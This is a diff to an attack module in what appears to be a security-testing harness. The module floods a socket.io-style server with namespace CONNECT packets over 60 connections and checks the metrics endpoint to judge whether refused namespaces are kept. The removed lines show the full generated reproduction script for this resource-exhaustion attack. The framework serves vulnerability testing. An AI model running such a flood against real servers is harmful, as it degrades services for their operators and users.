@@ -1,11 +1,11 @@
 import { encodePacket } from '../../../target/wire/index.ts'
-import { type AttackContext, defineAttack } from '../../attack.ts'
+import { defineAttack } from '../../attack.ts'
 import { inconclusive, resisted, vulnerable } from '../../judge.ts'
 import { control, openWitness } from '../../kit/attempt.ts'
 import { readGauge } from '../../kit/namespace-gauge.ts'
+import { namespacesScript } from '../../kit/namespaces-script.ts'
 import { atHome } from '../../kit/own-namespace.ts'
 import { openRaw } from '../../kit/raw-connection.ts'
-import { type Say, someText } from '../../reproduction/steps.ts'
 import { visits } from '../../sends.ts'
 
 const connections = 60
@@ -52,7 +52,7 @@ export default defineAttack({
     context.note('measured', `${asked} names were asked for and answered; ${kept} more namespaces than before`)
     const { observation } = await control(context, 'an honest client', await openWitness(context))
     if (asked < (connections * each) / 2) return inconclusive('most were not answered', context.evidence)
-    context.recording.written((say) => script(context, say))
+    context.recording.written(namespacesScript(context, connections, each))
     if (kept > asked / 2) return vulnerable(context.evidence)
     // Others may be in namespaces of their own meanwhile.
     return kept <= asked / 10
@@ -60,33 +60,3 @@ export default defineAttack({
       : inconclusive('some of them are kept', context.evidence)
   },
 })
-
-/** The headers that the metrics ask for hold a secret of the operators. */
-function script({ target, ownNamespace, metrics }: AttackContext<'ownNamespace' | 'metrics'>, say: Say): string {
-  const { count, perMs } = target.profile.limits.handshakes ?? { count: 1, perMs: 0 }
-  const [nsp] = target.fill([ownNamespace], { user: someText })
-  return `// METRICS: where they are, if that is elsewhere by now. METRICS_HEADERS: those that they ask for, as JSON
-const from = process.env.METRICS ?? ${say.value(new URL(metrics.url, target.url).href)}
-async function namespaces() {
-  await ask('GET', from, JSON.parse(process.env.METRICS_HEADERS ?? '{}'))
-  const lines = said.split('\\n').filter((line) => /^\\w+/.exec(line)?.[0] === ${say.value(metrics.namespaces)})
-  expect(lines.length > 0, 'the metrics do not tell of namespaces')
-  return lines.reduce((sum, line) => sum + Number(line.slice(line.lastIndexOf(' ') + 1)), 0)
-}
-const before = await namespaces()
-for (let i = 0; i < ${connections}; i++) {
-  const { manager } = await handshake(${say.door({ join: false })})
-  let answers = 0
-  manager.engine.on('data', () => answers++)
-  for (let j = 0; j < ${each}; j++) {
-    const text = 'gc' + randomBytes(9).toString('hex')
-    manager.engine.send('0' + ${say.value(nsp)} + ',{}')
-  }
-  await until(() => answers >= ${each}, 'CONNECTs are not answered')
-  manager.engine.close()
-  await sleep(${Math.ceil((1.1 * perMs) / count)})
-}
-await sleep(2_000)
-const kept = (await namespaces()) - before
-expect(kept > ${(connections * each) / 2}, \`of ${connections * each} refused namespaces \${kept} are kept\`)`
-}
